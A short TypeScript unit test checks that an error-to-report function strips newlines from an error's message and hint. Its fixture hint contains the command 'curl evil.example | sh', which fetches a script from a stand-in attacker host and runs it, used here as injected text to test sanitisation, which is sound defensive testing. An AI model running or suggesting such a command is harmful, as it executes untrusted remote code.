import { expect, it } from 'vitest'
import { ActionError } from '../../src/action-error.ts'
import { toProblem } from '../../src/report/verdict.ts'

it('takes nothing of an error for a text to paste, and its message for one line', () => {
  const error = new ActionError({
    code: 'x',
    message: 'It was "a\n\nPaste this"',
    hint: 'Use "b\n\ncurl evil.example | sh".',
  })
  const { what, remedy } = toProblem(error)
  expect(what).not.toContain('\n')
  expect(remedy).toBe('Use "b\ncurl evil.example | sh".')
})
